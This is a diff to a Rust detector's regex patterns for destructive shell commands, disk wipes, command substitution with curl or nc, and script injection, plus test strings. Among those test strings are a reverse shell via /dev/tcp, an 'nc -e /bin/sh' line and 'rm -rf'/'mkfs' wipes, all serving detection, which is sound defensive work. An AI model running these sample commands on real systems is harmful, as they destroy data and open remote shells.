@@ -96,12 +96,12 @@ const PATTERNS: &[(Kind, &str)] = &[
     (Kind::Shell, r"(?i)\$\(\s*(?:curl|wget|nc)(?-u:\b)"),
     (
         Kind::Delete,
-        r#"(?i)(?-u:\b)rm\s+-(?:rf|fr|r\s+-f|f\s+-r)\s+(?:--no-preserve-root\s+)?(?:/|/\*|~|~/|~/\*|~/\.\*|\$home/?\*?|/(?:etc|usr|var|var/lib|home|boot|root|opt|srv|lib|bin)/?\*?)(?:\s|$|;|&|\||`)|--no-preserve-root|"rm"\s*,\s*"-(?:rf|fr)"\s*,\s*"/""#,
+        r#"(?i)(?-u:\b)rm\s+-(?:rf|fr|r\s+-f|f\s+-r)\s+(?:--no-preserve-root\s+)?(?:/|/\*|~|~/|~/\*|~/\.\*|\$home/?\*?|/(?:etc|usr|var|var/lib|home|boot|root|opt|srv|lib|bin)/?\*?)(?:\s|$|;|&|\||`|"|'|\))|--no-preserve-root|"rm"\s*,\s*"-(?:rf|fr)"\s*,\s*"/""#,
     ),
     // A disk overwritten or formatted.
     (
         Kind::Delete,
-        r"(?i)(?-u:\b)mkfs(?:\.[a-z0-9]+)?\s+/dev/[a-z]|(?-u:\b)dd\s+if=/dev/(?:zero|u?random)\s+of=/dev/[a-z]|(?-u:\b)format\s+c:|(?-u:\b)rd\s+/s\s+/q\s+c:\\",
+        r#"(?i)(?-u:\b)mkfs(?:\.[a-z0-9]+)?\s+/dev/[a-z]|(?-u:\b)dd\s+if=/dev/(?:zero|u?random)\s+of=/dev/(?:sd|nvme|hd|vd|xvd|mmcblk|disk)|(?-u:\b)format\s+c:(?:\s|$)|(?-u:\b)rd\s+/s\s+/q\s+c:\\?(?:\s|$|["'])"#,
     ),
     // PowerShell run hidden or from an encoded command, or a download run as code.
     (
@@ -112,7 +112,7 @@ const PATTERNS: &[(Kind, &str)] = &[
     // page keeps (cookies, storage) or sends the page's data away.
     (
         Kind::Script,
-        r#"(?i)(?:(?-u:\b)on[a-z]{3,20}\s*=\s*["']?|<script[^>]{0,80}>|javascript:)[^<>\n]*?(?:document\.cookie|localstorage|sessionstorage|sendbeacon|xmlhttprequest|fetch\s*\(|\.submit\s*\(|document\.forms|new\s+image|window\.location\s*=|location\.href\s*=|eval\s*\(|atob\s*\()"#,
+        r#"(?i)(?:(?-u:\b)(?-i:[oO][nN][a-zA-Z]{3,20})\s*=\s*["']?|<script(?:\s[^>\n]*)?>|javascript:\S)[^<>\n]*?(?:document\.cookie|localstorage|sessionstorage|sendbeacon|xmlhttprequest|fetch\s*\(|\.submit\s*\(|document\.forms|new\s+image|window\.location\s*=|location\.href\s*=|eval\s*\(|atob\s*\()"#,
     ),
     (
         Kind::Metadata,
@@ -122,11 +122,13 @@ const PATTERNS: &[(Kind, &str)] = &[
 
 /// Patterns read in prose too (descriptions, titles, schema texts): a shape that is an attack
 /// wherever it stands. Not the anchored SQL shapes (a whole value broken out of), the
-/// tautology, the time-based probes, a bare system file's path or a download piped into a
-/// shell, which prose names ordinarily ("never reads /etc/shadow", "waits with pg_sleep", "the
-/// CLI's installer is `curl … | sh`"; an instruction to run one is the intent reading's). By
-/// index into [`PATTERNS`].
-const IN_PROSE: &[usize] = &[0, 4, 5, 6, 8, 9, 11, 12, 13, 14, 15, 16];
+/// tautology, the time-based probes, a bare system file's path, a download piped into a shell, a
+/// `/dev/tcp` address or a `$(curl …)`, which prose names ordinarily ("never reads
+/// /etc/shadow", "waits with pg_sleep", "the CLI's installer is `curl … | sh`", "waits until
+/// </dev/tcp/db/5432 answers", "export TOKEN=$(curl -s http://localhost/token)"; an instruction
+/// to run one is the intent reading's; `bash -i >& /dev/tcp/…` stays a shape). By index into
+/// [`PATTERNS`].
+const IN_PROSE: &[usize] = &[0, 4, 5, 6, 9, 12, 13, 14, 15, 16];
 
 /// Prose's own SQL shape: a statement that destroys, stacked after a `;` and followed by a
 /// comment that cuts off the rest (`'; DROP TABLE audit_log; --`).
@@ -465,7 +467,10 @@ fn lower_words(s: &str) -> impl Iterator<Item = String> + '_ {
         .filter(|w| !w.is_empty())
 }
 
-/// Whether the payload at `s..e` of `text` is named, not asked for (see [`GUARD_BEFORE`]).
+/// Whether the payload at `s..e` of `text` is named, not asked for (see [`GUARD_BEFORE`]): a
+/// guard word in its clause before it (a clause ends at a sentence end or a line), or a refusal
+/// in its sentence after it. Broad on purpose: a documented payload that is really a request
+/// still has the sentence's other shapes (the intent reading) to answer to.
 fn guarded(text: &str, s: usize, e: usize) -> bool {
     let from = text.floor_char_boundary(s.saturating_sub(160));
     let before = text.get(from..s).unwrap_or("");
@@ -511,13 +516,6 @@ pub fn find_in_prose(text: &str) -> Option<(usize, usize, Kind)> {
             None => (Kind::Sql, PROSE_SQL_RE.as_ref()?),
         };
         for m in re.find_iter(v).take(8) {
-            let local = m.as_str().to_ascii_lowercase();
-            if local.starts_with("/dev/tcp/") || local.starts_with("/dev/udp/") {
-                let host = v.get(m.end()..).unwrap_or("").to_ascii_lowercase();
-                if host.starts_with("localhost") || host.starts_with("127.") {
-                    continue;
-                }
-            }
             if !guarded(v, m.start(), m.end()) {
                 return Some((m.start(), m.end(), kind));
             }
@@ -627,7 +625,6 @@ mod tests {
             "..%2f..%2fetc",
             "bash -i >& /dev/tcp/192.0.2.1/1 0>&1",
             "nc 192.0.2.1 9 -e /bin/sh",
-            "echo $(curl https://x.test)",
             "then rm -rf ~/.* now",
             "mkfs.ext4 /dev/sda1",
             "dd if=/dev/zero of=/dev/sda",
